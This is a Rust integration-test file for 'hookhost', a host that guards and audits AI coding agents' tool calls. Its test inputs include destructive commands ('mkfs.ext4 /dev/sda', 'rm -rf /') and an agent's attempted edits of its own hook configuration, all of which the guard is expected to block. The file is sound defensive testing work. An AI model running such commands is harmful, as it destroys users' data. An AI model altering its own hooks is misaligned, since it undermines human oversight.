//! The `hookhost` binary: outcome JSON, the replay table, and bad input (non-zero exit, one
//! message naming the file or field and the fix).


use std::io::Write;
use std::process::{Output, Stdio};

fn hookhost(args: &[&str], stdin: &str) -> Output {
    hookhost_with(args, stdin, &[])
}

/// `hookhost` with these environment variables set.
fn hookhost_with(args: &[&str], stdin: &str, env: &[(&str, &std::path::Path)]) -> Output {
    let mut child = crate::common::bin(env!("CARGO_BIN_EXE_hookhost"))
        .args(args)
        .envs(env.iter().copied())
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn hookhost");
    // A hookhost that fails before reading its input (a bad config) closes the pipe: what
    // it printed and its exit code are what the test reads.
    if let Err(e) = child.stdin.take().unwrap().write_all(stdin.as_bytes()) {
        assert_eq!(e.kind(), std::io::ErrorKind::BrokenPipe, "writing hookhost's stdin: {e}");
    }
    child.wait_with_output().unwrap()
}

fn stderr(out: &Output) -> String {
    String::from_utf8_lossy(&out.stderr).trim_end().to_string()
}

fn write(dir: &std::path::Path, name: &str, text: &[u8]) -> String {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path.display().to_string()
}

#[test]
fn run_prints_the_outcome_json_of_the_embedded_default() {
    let out = hookhost(&["run"], r#"{"event":"pre_tool_use","data":{"tool_name":"bash","tool_call_id":"c","arguments":{"command":"mkfs.ext4 /dev/sda"}}}"#);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decision"], "block");
    assert_eq!(v["reason"], "destructive command blocked: mkfs.ext4 formats a filesystem (rule fs.mkfs); instead: nothing: run it yourself if you mean it");
    assert_eq!(v["user_message"], "That command is blocked by policy.");
    assert_eq!(v["hooks"][0]["id"], "user:guard_destructive");
    assert_eq!(v["hooks"][0]["error"], serde_json::Value::Null);
    assert!(v.get("patch").is_none());
}

/// Self-protection under the embedded default: an agent's edit of its runtime's hook settings
/// and a `sed -i` of the project layer are denied (with what it tried); reading them is not.
#[test]
fn the_embedded_default_keeps_the_agent_off_its_own_hooks() {
    let claude = |tool: &str, input: &str| {
        let event = format!(r#"{{"hook_event_name":"PreToolUse","session_id":"s","cwd":"/home/u/p","tool_name":"{tool}","tool_input":{input}}}"#);
        let out = hookhost(&["run", "--output", "claude-code", "--no-project"], &event);
        assert!(out.status.success(), "{}", stderr(&out));
        let text = String::from_utf8_lossy(&out.stdout).to_string();
        (!text.is_empty()).then(|| serde_json::from_str::<serde_json::Value>(&text).unwrap()["hookSpecificOutput"].clone())
    };
    let edit = claude("Edit", r#"{"file_path":"/home/u/p/.claude/settings.json","old_string":"deny","new_string":"allow"}"#).unwrap();
    assert_eq!(edit["permissionDecision"], "deny");
    assert_eq!(
        edit["permissionDecisionReason"],
        "hook configuration is protected: Edit would change /home/u/p/.claude/settings.json (hook configuration) (rule hooks.change); instead: read it freely, but change hooks yourself, outside the agent"
    );
    let sed = claude("Bash", r#"{"command":"sed -i 's/block/warn/' .hookhost/hooks.toml"}"#).unwrap();
    assert_eq!(sed["permissionDecision"], "deny");
    assert!(sed["permissionDecisionReason"].as_str().unwrap().starts_with("hook configuration is protected: sed would change .hookhost/hooks.toml"), "{sed}");
    assert_eq!(claude("Read", r#"{"file_path":"/home/u/p/.claude/settings.json"}"#), None, "reading stays allowed");
    assert_eq!(claude("Bash", r#"{"command":"cat .hookhost/hooks.toml"}"#), None, "reading stays allowed");
}

#[test]
fn run_reports_rewrites_in_patch() {
    let out = hookhost(&["run"], r#"{"hook_event_name":"UserPromptSubmit","prompt":"key sk-proj-ABCDEFGHIJKLMNOPQRSTUVWX"}"#);
    assert!(out.status.success(), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["decision"], "pass");
    assert_eq!(v["patch"]["message"], "key [REDACTED:api-key]");
    assert_eq!(v["effects"][0], serde_json::json!({"type": "annotate", "pairs": [["redacted", "1"]]}));
}

#[test]
fn replay_prints_a_table_and_json_lines() {
    let session = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/session.jsonl");
    let out = hookhost(&["replay", session], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let table = String::from_utf8(out.stdout).unwrap();
    assert!(table.starts_with("line  event"), "{table}");
    let blocks = table.lines().filter(|l| l.contains(" block ")).count();
    assert_eq!(blocks, 2, "{table}");
    let out = hookhost(&["replay", "--json", session], "");
    let lines: Vec<serde_json::Value> = out.stdout.split(|b| *b == b'\n').filter(|l| !l.is_empty()).map(|l| serde_json::from_slice(l).unwrap()).collect();
    assert_eq!(lines.len(), 10);
    assert_eq!(lines[4]["decision"], "block");
}

/// `hookhost replay --json | head -1`: the reader goes away after one line; the output stops
/// there quietly (exit 0, nothing on stderr), as with any Unix filter — never a panic.
#[test]
fn replay_into_a_closed_pipe_stops_quietly() {
    use std::io::{BufRead, BufReader};
    let dir = tempfile::tempdir().unwrap();
    let line = r#"{"event":"pre_tool_use","data":{"tool_name":"bash","tool_call_id":"c","arguments":{"command":"ls"}}}"#;
    let session = write(dir.path(), "long.jsonl", format!("{line}\n").repeat(2000).as_bytes());
    for json in [true, false] {
        let args: &[&str] = if json { &["replay", "--json", &session] } else { &["replay", &session] };
        let mut child = crate::common::bin(env!("CARGO_BIN_EXE_hookhost")).args(args).stdout(Stdio::piped()).stderr(Stdio::piped()).spawn().unwrap();
        let mut first = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut first).unwrap();
        assert!(!first.is_empty());
        // The read end is dropped here, with most of the output still to come.
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "json = {json}: {}", stderr(&out));
        assert_eq!(stderr(&out), "", "json = {json}");
    }
}

#[test]
fn malformed_config_names_file_line_and_problem() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(dir.path(), "bad.toml", b"[[hooks]]\nevent = \"pre_tool_use\"\nexecutor = { plugin = \"x.wasm\" \n");
    let out = hookhost(&["run", "--config", &cfg], "{}");
    assert_eq!(out.status.code(), Some(2));
    let err = stderr(&out);
    assert!(err.starts_with(&format!("hookhost: error: {cfg}: line 3, column ")), "{err}");
    assert_eq!(err.lines().count(), 1, "{err}");
}

#[test]
fn unknown_event_name_in_config_lists_the_known_names() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(dir.path(), "h.toml", b"[[hooks]]\nevent = \"before_tool\"\nexecutor = { plugin = \"builtin:guard-destructive\" }\n");
    let out = hookhost(&["check", "--config", &cfg], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).starts_with(&format!("hookhost: error: {cfg}: hooks[0].event: unknown event \"before_tool\"; use one of session_start, session_end, user_prompt_submit, pre_tool_use,")), "{}", stderr(&out));
}

#[test]
fn unknown_event_name_in_the_input_is_a_usage_error() {
    let out = hookhost(&["run"], r#"{"event":"pre_tool"}"#);
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).starts_with("hookhost: error: stdin: unknown event \"pre_tool\": use one of session_start,"), "{}", stderr(&out));
}

#[test]
fn missing_plugin_and_non_component_files_are_named() {
    let dir = tempfile::tempdir().unwrap();
    let cfg = write(dir.path(), "h.toml", b"[[hooks]]\nid = \"g\"\nevent = \"pre_tool_use\"\nexecutor = { plugin = \"guard.wasm\" }\n");
    let out = hookhost(&["check", "--config", &cfg], "");
    assert_eq!(out.status.code(), Some(2));
    let missing = dir.path().join("guard.wasm");
    assert_eq!(stderr(&out), format!("hookhost: error: user:g: plugin file {} does not exist; check executor.plugin (relative paths are resolved from the config file's directory)", missing.display()));

    write(dir.path(), "guard.wasm", b"hello");
    let out = hookhost(&["check", "--config", &cfg], "");
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out), format!("hookhost: error: user:g: plugin {} is not a WebAssembly component: the file does not start with the wasm magic bytes; point executor.plugin at a .wasm component built for wasm32-wasip2", missing.display()));
}

#[test]
fn check_lists_the_loaded_chain() {
    let out = hookhost(&["check"], "");
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        String::from_utf8_lossy(&out.stdout).trim(),
        "ok: 4 hook(s) loaded: user:guard_destructive, user:redact_tool_input, user:redact_tool_output, user:redact_prompt
  user:guard_destructive (pre_tool_use): wasm, timeout 1 s
  user:redact_tool_input (pre_tool_use): wasm, timeout 5 s
  user:redact_tool_output (post_tool_use): wasm, timeout 5 s
  user:redact_prompt (user_prompt_submit): wasm, timeout 5 s
layer user: <embedded default config> (no user config: the built-in guard and redactors)
protection: the built-in guard runs before tool calls as user:guard_destructive"
    );
}

#[test]
fn a_corrupted_precompile_cache_entry_is_replaced_not_executed() {
    let dir = tempfile::tempdir().unwrap();
    let check = || {
        let out = crate::common::bin(env!("CARGO_BIN_EXE_hookhost")).arg("check").env("HOOKHOST_CACHE_DIR", dir.path()).output().unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
    };
    check();
    let entries: Vec<_> = std::fs::read_dir(dir.path()).unwrap().map(|e| e.unwrap().path()).filter(|p| p.extension().is_some_and(|e| e == "cwasm")).collect();
    assert_eq!(entries.len(), 2, "one entry per built-in plugin of the default config: {entries:?}");
    for entry in &entries {
        let name = entry.file_name().unwrap().to_str().unwrap();
        assert_eq!(name.split('-').next().unwrap().len(), 64, "named by the component's sha256: {name}");
        assert!(name.ends_with(".cwasm"));
        std::fs::write(entry, b"not native code").unwrap();
    }
    check();
    for entry in &entries {
        assert!(std::fs::metadata(entry).unwrap().len() > 1000, "{} was rewritten", entry.display());
    }
}

/// A built-in's first use with an empty cache: in a release build, it unpacks the code compiled
/// when hookhost was built into the cache — no compile, for the 13 MB bash adapter as for the
/// default config's plugins; in a debug build (which embeds no code: see
/// `host/precompile/tests/precompiled.rs` for the tool's output) it compiles into the cache.
/// Either way later uses map that entry. (A machine whose CPU the embedded code does not suit
/// compiles instead: `a_builtin_whose_embedded_code_is_refused_is_compiled` in the library.)
#[test]
fn a_builtins_first_use_maps_the_code_compiled_at_build_time() {
    // The hookhost binary is built with this test's profile: release embeds code, debug not.
    let embedded = !cfg!(debug_assertions);
    let dir = tempfile::tempdir().unwrap();
    let cache = dir.path().join("cache");
    let script = r#"jq -e '.tool_input.command | test("rm -rf")' >/dev/null && { echo 'no rm -rf' >&2; exit 2; }; exit 0"#;
    let config = write(dir.path(), "hooks.toml", format!("[[hooks]]\nid = \"jq\"\nevent = \"pre_tool_use\"\nexecutor = {{ plugin = \"builtin:bash-adapter\", settings = {{ dialect = \"claude-code\", command = {script:?} }} }}\n").as_bytes());
    let run = |args: &[&str], stdin: &str| {
        let out = hookhost_with(args, stdin, &[("HOOKHOST_CACHE_DIR", &cache)]);
        assert!(out.status.success(), "{args:?}: {}", stderr(&out));
        if embedded {
            assert!(!stderr(&out).contains("compil"), "nothing is compiled: {}", stderr(&out));
        }
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    let rm = r#"{"event":"pre_tool_use","data":{"tool_name":"bash","arguments":{"command":"rm -rf /"}}}"#;
    let first: serde_json::Value = serde_json::from_str(&run(&["run", "--config", &config], rm)).unwrap();
    assert_eq!(first["decision"], "block", "{first}");
    assert!(first["reason"].as_str().unwrap().contains("no rm -rf"), "{first}");
    let entries = std::fs::read_dir(&cache).unwrap().filter(|e| e.as_ref().unwrap().path().extension().is_some_and(|x| x == "cwasm")).count();
    assert_eq!(entries, 1, "the unpacked code is the cache's entry for the adapter");
    let line = |text: &str| text.lines().find(|l| l.contains(" — builtin:bash-adapter, ")).unwrap_or_else(|| panic!("{text}")).to_string();
    let first_source = if embedded { " (precompiled when hookhost was built)" } else { " (compiled)" };
    if embedded {
        std::fs::remove_dir_all(&cache).unwrap();
        let first = run(&["check", "-v", "--config", &config], "");
        assert!(line(&first).ends_with(first_source), "{first}");
    }
    let again = run(&["check", "-v", "--config", &config], "");
    assert!(line(&again).ends_with(" (from the precompile cache)"), "{again}");
    let default = run(&["check", "-v"], "");
    assert_eq!(default.matches(" (from the precompile cache)").count() + default.matches(first_source).count(), 4, "{default}");
}

#[test]
fn config_show_prints_the_normalised_chain_of_a_peer_file() {
    let file = concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/config/peers/claude-settings.json");
    let out = hookhost(&["config", "show", "--config", file], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    assert!(lines[0].starts_with("id ") && lines[0].ends_with("executor"), "{text}");
    assert_eq!(lines[1].split_whitespace().take(2).collect::<Vec<_>>(), ["user:pre_tool_use_0", "pre_tool_use"], "{text}");
    assert!(lines[1].contains(r#"{"tool_pattern":"Bash","if":"Bash(rm *)"}"#), "{text}");
    assert!(lines[1].contains("builtin:bash-adapter claude-code auto: echo 'rm is not allowed here'"), "{text}");

    let forced = hookhost(&["config", "show", "--json", "--dialect", "everruns", "--config", file], "");
    assert_eq!(forced.status.code(), Some(2), "a Claude file read as Everruns");
    assert!(stderr(&forced).ends_with("  - user_hooks.permissions: unknown field; known fields are hooks, disabled_contributions\n  - user_hooks.hooks: must be a list of hooks"), "{}", stderr(&forced));
    let bad = hookhost(&["config", "show", "--dialect", "zsh", "--config", file], "");
    assert_eq!(stderr(&bad), "hookhost: error: --dialect: unknown format \"zsh\"; use native, everruns, claude-code, docker-agent, starchild, copilot, cursor, antigravity");
}

#[test]
fn bench_runs_every_way_and_checks_every_decision() {
    let out = hookhost(&["bench", "--seconds", "0", "--json"], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["payloads"], 12);
    assert_eq!(report["blocked"], 4);
    let ways = report["ways"].as_array().unwrap();
    let names: Vec<&str> = ways.iter().map(|w| w["way"].as_str().unwrap()).collect();
    // The policy four ways (the guard also with every rule pack on), then the drop-in ways: a
    // serve daemon (and the bare loopback HTTP exchange under it), hookhost-send, hookhost run.
    assert_eq!(names, ["wasm", "wasm-all-packs", "sandbox", "bash-jq", "native", "serve", "http-floor", "send", "run"]);
    // Fails under CI=true when jq is missing.
    let jq = hookhost_tests::have("jq");
    for w in ways {
        if w["way"] == "bash-jq" && !jq {
            assert_eq!(w["skipped"], "jq is not on PATH (install it: apt-get install jq)");
            continue;
        }
        assert!(w.get("skipped").is_none(), "{w}");
        // At least one timed round of the 12 payloads after the checked warm-up round.
        assert!(w["calls"].as_u64().unwrap() >= 12, "{w}");
        assert!(w["p50_us"].as_f64().unwrap() > 0.0 && w["p99_us"].as_f64().unwrap() >= w["p50_us"].as_f64().unwrap(), "{w}");
    }
    assert_eq!(ways[0]["p50_vs_wasm"], 1.0);
}

/// A `--plugin` is timed in a host (as `serve` runs it) and by `hookhost run` spawned per call
/// (as a command-hook runtime runs it), its state kept in a file: issue #52's two lines.
#[test]
fn bench_times_a_plugin_in_a_host_and_by_hookhost_run() {
    let (remember, remember_not) = (hookhost_tests::fixtures::REMEMBER, hookhost_tests::fixtures::REMEMBER_NOT);
    let out = hookhost(&["bench", "--seconds", "0", "--json", "--plugin", remember_not, "--plugin", remember], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let report: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    let ways = report["ways"].as_array().unwrap();
    let names: Vec<&str> = ways.iter().map(|w| w["way"].as_str().unwrap()).collect();
    let file = |p: &str| std::path::Path::new(p).file_name().unwrap().to_string_lossy().into_owned();
    for (prefix, plugin) in [("plugin:", remember_not), ("plugin:", remember), ("run:", remember_not), ("run:", remember)] {
        let way = ways.iter().find(|w| w["way"].as_str().unwrap().starts_with(prefix) && w["way"].as_str().unwrap().ends_with(&file(plugin))).unwrap_or_else(|| panic!("{prefix}{plugin} in {names:?}"));
        assert!(way.get("skipped").is_none(), "{way}");
        assert!(way["calls"].as_u64().unwrap() >= 12, "{way}");
    }
    // The `run` ways come before the default config's, last.
    assert_eq!(names.last(), Some(&"run"));
}

#[test]
fn bench_rejects_a_bad_duration() {
    for bad in ["-1", "abc", "1e9"] {
        let out = hookhost(&["bench", "--seconds", bad], "");
        assert_eq!(out.status.code(), Some(2), "{bad}");
        assert!(stderr(&out).contains(&format!("{bad:?} is not a number of seconds between 0 and 3600")), "{}", stderr(&out));
    }
}

#[test]
fn native_guard_follows_the_claude_code_contract() {
    let guard = |stdin: &str| {
        let mut child = crate::common::bin(env!("CARGO_BIN_EXE_hookhost-native-guard"))
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        child.stdin.take().unwrap().write_all(stdin.as_bytes()).unwrap();
        child.wait_with_output().unwrap()
    };
    let out = guard(r#"{"tool_name":"Bash","tool_input":{"command":"mkfs.ext4 /dev/sda"}}"#);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out), "destructive command blocked: mkfs.ext4 formats a filesystem (rule fs.mkfs); instead: nothing: run it yourself if you mean it");
    let out = guard(r#"{"tool_name":"Bash","tool_input":{"command":"ls"}}"#);
    assert_eq!(out.status.code(), Some(0));
    let out = guard(r#"{"tool_name":"Read","tool_input":{"path":"x"}}"#);
    assert_eq!(out.status.code(), Some(0));
    let out = guard("not json");
    assert_eq!(out.status.code(), Some(1));
    assert!(stderr(&out).starts_with("hookhost-native-guard: stdin is not JSON: "), "{}", stderr(&out));
}

#[test]
fn audit_verify_accepts_an_intact_log_and_names_the_first_broken_line() {
    let dir = tempfile::tempdir().unwrap();
    let log = dir.path().join("audit.jsonl");
    let log_s = log.display().to_string();
    let session = concat!(env!("CARGO_MANIFEST_DIR"), "/../examples/session.jsonl");
    let out = hookhost(&["replay", "--json", "--audit", &log_s, session], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let out = hookhost(&["audit", "verify", &log_s], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&log).unwrap();
    let n = text.lines().count();
    assert!(n >= 5, "{text}");
    let printed = String::from_utf8_lossy(&out.stdout);
    assert!(printed.starts_with(&format!("ok: {n} records, chain intact; head hash ")), "{printed}");

    // A second run appends to the same chain.
    let out = hookhost(&["replay", "--json", "--audit", &log_s, session], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let out = hookhost(&["audit", "verify", &log_s], "");
    assert!(String::from_utf8_lossy(&out.stdout).starts_with(&format!("ok: {} records", 2 * n)), "{}", stderr(&out));

    // Turn a recorded block into a pass.
    let lines: Vec<&str> = text.lines().collect();
    let block = lines.iter().position(|l| l.contains(r#""decision":"block""#)).expect("the session has a block");
    let mut edited: Vec<String> = lines.iter().map(|l| l.to_string()).collect();
    edited[block] = edited[block].replace(r#""decision":"block""#, r#""decision":"pass""#);
    let bad = write(dir.path(), "edited.jsonl", (edited.join("\n") + "\n").as_bytes());
    let out = hookhost(&["audit", "verify", &bad], "");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(stderr(&out), format!("hookhost: {bad}:{}: record {block} does not match its hash: it was edited", block + 1));

    // Drop a record.
    let mut removed: Vec<&str> = lines.clone();
    removed.remove(1);
    let bad = write(dir.path(), "removed.jsonl", (removed.join("\n") + "\n").as_bytes());
    let out = hookhost(&["audit", "verify", &bad], "");
    assert_eq!(out.status.code(), Some(1));
    assert_eq!(stderr(&out), format!("hookhost: {bad}:2: record 2 where record 1 should be: records were removed or reordered"));

    let out = hookhost(&["audit", "verify", &dir.path().join("missing.jsonl").display().to_string()], "");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).starts_with("hookhost: error: cannot read the audit log "), "{}", stderr(&out));
}

/// Lines at the end of an audit log that are not hookhost records (written by something else,
/// or edited) never stop the log, and with it every decision (issue #48): they are moved aside,
/// the writer says so, a `recovered` record chained to the last real one records it, and the
/// log verifies.
#[test]
fn foreign_lines_at_the_end_of_an_audit_log_are_moved_aside_and_the_log_goes_on() {
    let dir = tempfile::tempdir().unwrap();
    let foreign = write(dir.path(), "foreign.jsonl", b"{\"event\":\"x\"}\n");
    let out = hookhost(&["run", "--audit", &foreign], r#"{"event":"pre_tool_use","data":{"tool_name":"bash","arguments":{"command":"rm -rf /"}}}"#);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["decision"], "block");
    assert!(stderr(&out).contains("the audit log ends in 14 byte(s) that are not hookhost records (its last line is not a complete hookhost audit record (no `seq` field: not a hookhost audit record)"), "{}", stderr(&out));
    let aside: Vec<_> = std::fs::read_dir(dir.path()).unwrap().filter_map(|e| e.ok()).filter(|e| e.file_name().to_string_lossy().starts_with("foreign.jsonl.torn-")).collect();
    assert_eq!(aside.len(), 1);
    assert_eq!(std::fs::read_to_string(aside[0].path()).unwrap(), "{\"event\":\"x\"}\n");
    let log = std::fs::read_to_string(&foreign).unwrap();
    assert!(log.starts_with("{\"seq\":0,") && log.lines().next().unwrap().contains("\"recovered\":{\"torn_bytes\":14,"), "{log}");
    let verified = hookhost(&["audit", "verify", &foreign], "");
    assert!(verified.status.success(), "{}", stderr(&verified));

    // Good records, then several foreign lines (one of them a record edited after it was
    // written): the chain goes on from the last good record.
    let lines: Vec<String> = log.lines().map(str::to_string).collect();
    let edited = lines.last().unwrap().replacen("\"ts\":\"", "\"ts\":\"1", 1);
    assert_ne!(&edited, lines.last().unwrap());
    let poisoned = format!("{}\n{edited}\nnot json at all\n[1,2]\n", lines[..lines.len() - 1].join("\n"));
    std::fs::write(&foreign, &poisoned).unwrap();
    let out = hookhost(&["run", "--audit", &foreign], r#"{"event":"pre_tool_use","data":{"tool_name":"bash","arguments":{"command":"ls"}}}"#);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("that are not hookhost records (its last line is not a complete hookhost audit record (no `seq` field"), "{}", stderr(&out));
    let verified = hookhost(&["audit", "verify", &foreign], "");
    assert!(verified.status.success(), "{}", stderr(&verified));
    assert!(!std::fs::read_to_string(&foreign).unwrap().contains("not json at all"));
}

#[test]
fn check_says_where_each_peer_hook_runs_what_it_needs_and_what_is_not_run() {
    let dir = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(dir.path().join(".claude")).unwrap();
    let settings = serde_json::json!({"hooks": {
        "PreToolUse": [{"matcher": "Bash", "hooks": [
            {"type": "command", "command": "jq -e '.tool_input.command | test(\"--no-verify\") | not' >/dev/null || exit 2", "blocking": true},
            {"type": "command", "command": "node .claude/hooks/guard.js", "timeout": 900},
            {"type": "prompt", "prompt": "Is this safe? $ARGUMENTS"}
        ]}]
    }});
    let file = write(&dir.path().join(".claude"), "settings.json", settings.to_string().as_bytes());
    let out = hookhost(&["check", "--config", &file], "");
    assert!(out.status.success(), "{}", stderr(&out));
    let text = String::from_utf8(out.stdout).unwrap();
    let project = dir.path().display();
    assert_eq!(
        text,
        format!(
            "ok: 2 hook(s) loaded: user:pre_tool_use_0, user:pre_tool_use_1
  user:pre_tool_use_0 (pre_tool_use): sandbox, timeout 600 s
  user:pre_tool_use_1 (pre_tool_use): sandbox, timeout 600 s
    the command cannot run in the sandbox: it runs `node`, which the sandbox does not have (it provides bash built-ins such as jq, grep and sed, and its filesystem holds only the project, read-only)
    to run it as a real process, as its runtime would: pass --grant process:exec (or add grants = [\"process:exec\"] to its [[peers]] entry); until then it cannot start: a block on events that can block (peer_start_failure), a warning on others
sandboxed shell hooks see the project {project}, read-only
not run: 1 hook(s) load but do not run:
  hooks.PreToolUse[0].hooks[2] (prompt on pre_tool_use): a prompt hook asks a model to decide; hookhost runs programs, not model calls
warnings: 2
  hooks.PreToolUse[0].hooks[0].blocking: not a field this runtime documents; ignored
  hooks.PreToolUse[0].hooks[1].timeout: 900 s is capped at hookhost's ceiling of 600 s for peer hooks
layer user: {file}
protection: none — no hook runs the built-in guard (builtin:guard-destructive) before tool calls
"
        )
    );
    // Granted, they run as real processes: nothing stands in their way.
    let out = hookhost(&["check", "--grant", "process:exec", "--config", &file], "");
    let text = String::from_utf8(out.stdout).unwrap();
    assert!(text.contains("  user:pre_tool_use_1 (pre_tool_use): host process, timeout 600 s\n") && !text.contains("cannot run"), "{text}");
}

#[test]
fn under_a_runtime_protocol_hookhosts_own_failures_block_before_an_action() {
    let dir = tempfile::tempdir().unwrap();
    let pre = r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"mkfs.ext4 /dev/sda"}}"#;
    let harmless = r#"{"hook_event_name":"PreToolUse","tool_name":"Bash","tool_input":{"command":"ls"}}"#;
    // The answer in Claude Code's own form, exit 0.
    let out = hookhost(&["run", "--output", "claude-code"], pre);
    assert_eq!(out.status.code(), Some(0));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny");
    // A chain that cannot run (a managed file that does not load): even a harmless tool call is
    // the runtime's block, naming the failure — never its "go ahead".
    let managed = dir.path().join("managed.toml");
    std::fs::write(&managed, "[[hooks]\n").unwrap();
    let broken = |args: &[&str], stdin: &str| hookhost_with(args, stdin, &[("HOOKHOST_MANAGED_CONFIG", &managed)]);
    let out = broken(&["run", "--output", "claude-code"], harmless);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(v["hookSpecificOutput"]["permissionDecision"], "deny", "{v}");
    let reason = v["hookSpecificOutput"]["permissionDecisionReason"].as_str().unwrap();
    assert!(reason.starts_with("hookhost could not decide, so it blocks (its own failures block before an action; `--fail-open` lets them through): ") && reason.contains("managed.toml"), "{reason}");
    // An event that gates nothing: the runtime's non-blocking error (exit 1, one line).
    let out = broken(&["run", "--output", "claude-code"], r#"{"hook_event_name":"Stop","session_id":"s"}"#);
    assert_eq!((out.status.code(), out.stdout.is_empty()), (Some(1), true));
    // --fail-open: the non-blocking error before a tool too (the tool runs unchecked).
    let out = broken(&["run", "--output", "claude-code", "--fail-open"], harmless);
    assert_eq!((out.status.code(), out.stdout.is_empty()), (Some(1), true));
    assert!(stderr(&out).starts_with("hookhost: error: "), "{}", stderr(&out));
    // --fail-closed: the block on every event.
    let out = broken(&["run", "--output", "docker-agent", "--fail-closed"], r#"{"hook_event_name":"Stop","session_id":"s"}"#);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["decision"], "block");
    assert_eq!(hookhost(&["run", "--output", "claude-code", "--fail-open", "--fail-closed"], pre).status.code(), Some(2), "the two contradict");
    // Input that is not JSON: every runtime's universal block, exit 2 (exit 1 with --fail-open).
    let out = hookhost(&["run", "--output", "gemini-cli"], "{");
    assert_eq!(out.status.code(), Some(2));
    assert!(stderr(&out).starts_with("hookhost could not decide, so it blocks (its own failures block before an action; `--fail-open` lets them through): stdin: event is not valid JSON"), "{}", stderr(&out));
    assert_eq!(hookhost(&["run", "--output", "gemini-cli", "--fail-open"], "{").status.code(), Some(1));
    // GitHub Copilot CLI denies a tool call whose preToolUse hook exits non-zero at all: there
    // hookhost's block is its deny JSON on exit 0, and its non-blocking error exit 0 and nothing.
    let copilot_pre = r#"{"sessionId":"s","timestamp":1767225600000,"cwd":"/","toolName":"bash","toolArgs":{"command":"ls"}}"#;
    let out = broken(&["run", "--output", "copilot", "--event-name", "preToolUse"], copilot_pre);
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["permissionDecision"], "deny");
    let out = broken(&["run", "--output", "copilot", "--event-name", "preToolUse", "--fail-open"], copilot_pre);
    assert_eq!((out.status.code(), out.stdout.is_empty()), (Some(0), true));
    let out = hookhost(&["run", "--output", "copilot", "--event-name", "preToolUse"], &copilot_pre.replace("ls", "mkfs.ext4 /dev/sda"));
    assert_eq!(out.status.code(), Some(0));
    assert_eq!(serde_json::from_slice::<serde_json::Value>(&out.stdout).unwrap()["permissionDecision"], "deny");
    // A payload that names no event and whose fields do not say (a wiring without
    // --event-name): not readable as an event, so blocked (Copilot denies on exit 2).
    let out = hookhost(&["run", "--output", "copilot"], r#"{"sessionId":"s","timestamp":1,"cwd":"/"}"#);
    assert_eq!((out.status.code(), out.stdout.is_empty()), (Some(2), true));
    assert!(stderr(&out).contains("pass the name its hook is configured under, `hookhost run --event-name NAME`"), "{}", stderr(&out));
    // An event hookhost does not model passes through, exit 0, nothing to say.
    let out = hookhost(&["run", "--output", "claude-code"], r#"{"hook_event_name":"TaskCompleted","task_id":"t1"}"#);
    assert_eq!((out.status.code(), out.stdout.is_empty()), (Some(0), true), "{}", stderr(&out));
    // A protocol hookhost does not speak is the command line's own error.
    let out = hookhost(&["run", "--output", "windsurf"], pre);
    assert_eq!(out.status.code(), Some(2));
    assert_eq!(stderr(&out), "hookhost: error: --output: unknown protocol \"windsurf\"; use one of json, claude-code, codex, gemini-cli, docker-agent, starchild, copilot, opencode, qwen-code, cursor, antigravity");
}

/// `hookhost wit DIR` writes the WIT package authors build against; `-` prints it; a second
/// run says the file is up to date, and a changed file is put back.
#[test]
fn wit_writes_the_package_hooks_are_built_against() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("wit");
    let wit = |arg: &std::path::Path| hookhost(&["wit", arg.to_str().unwrap()], "");
    // By default the newest contract, the one the SDK and `hookhost new` build against.
    let repo_wit = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../wit/0.3.0/hooks.wit")).unwrap();
    let out = wit(&target);
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    let written = target.join("hooks.wit");
    assert_eq!(std::fs::read_to_string(&written).unwrap(), repo_wit);
